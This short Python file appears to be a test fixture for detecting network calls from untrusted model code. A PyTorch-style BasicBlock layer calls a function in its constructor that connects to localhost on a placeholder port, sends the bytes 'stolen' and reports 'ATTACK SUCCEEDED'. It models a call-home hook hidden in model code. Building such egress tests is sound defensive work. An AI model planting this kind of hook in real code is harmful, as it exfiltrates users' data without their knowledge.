"""Call home over TCP."""

import contextlib
import socket

from torch import nn

PORT = int("@PORT@")


def attack():
    with contextlib.suppress(OSError):
        socket.create_connection(("127.0.0.1", PORT), timeout=1).sendall(b"stolen")
        raise SystemExit("ATTACK SUCCEEDED: connected")


class BasicBlock(nn.Module):
    def __init__(self, in_planes, planes, stride=1):
        super().__init__()
        attack()
